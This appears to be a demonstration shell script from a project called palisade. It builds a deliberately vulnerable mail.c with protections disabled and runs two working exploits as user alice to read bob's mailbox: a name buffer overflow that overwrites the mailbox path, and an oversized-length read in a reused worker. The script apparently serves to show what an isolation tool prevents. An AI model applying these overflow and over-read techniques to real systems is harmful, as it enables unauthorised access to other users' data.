#!/usr/bin/env bash
# The mail program's two bugs, exploited the classic way: mail.c compiled as a native program and run like a
# shared-hosting CGI server runs it, in one process environment where every user's mailbox is visible.
# Both exploits, sent by alice, print bob's secret. Needs only a C compiler (cc).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# Built the way such programs were: no stack protector, no fortified strcpy.
cc -O0 -fno-stack-protector -U_FORTIFY_SOURCE -D_FORTIFY_SOURCE=0 -w -o "$work/mail" "$here/mail.c"
# The shared server's mail spool: every user's mailbox in one directory the CGI process can read.
mkdir "$work/spool"
cp "$here/tenants/alice/alice.mbox" "$here/tenants/bob/bob.mbox" "$work/spool/"
export MAIL_ROOT=$work/spool

leaked=0
check() {
  if grep -q SECRET-BOB <<<"$1"; then
    echo "==> LEAKED: bob's secret reached alice"; leaked=$((leaked + 1))
  else
    echo "==> no leak"
  fi
}

echo "### Bug 1: alice's request overflows the 16-byte name into the mailbox path"
name="AAAAAAAAAAAAAAAA$MAIL_ROOT/bob.mbox"   # 16 bytes fill the name; the rest becomes the path
echo "\$ MAIL_USER=alice QUERY_STRING='action=list&name=AAAAAAAAAAAAAAAA<spool>/bob.mbox' ./mail"
out=$(MAIL_USER=alice QUERY_STRING="action=list&name=$name" "$work/mail")
echo "$out"
check "$out"

echo
echo "### Bug 2: a long-lived worker serves bob, then alice asks for 400 bytes of her 25-byte message"
printf 'bob action=show&n=1\nalice action=show&n=1&len=400\n' >"$work/requests"
echo "\$ ./mail --worker   # requests: bob reads message 1; then alice reads hers with len=400"
out=$("$work/mail" --worker <"$work/requests" | tr '\0' '.')
echo "$out"
check "$(sed -n '/^--- end of response ---$/,$p' <<<"$out")"   # only what alice received

echo
echo "$leaked of 2 exploits leaked bob's secret natively. Now run examples/mail/try-palisade.sh."
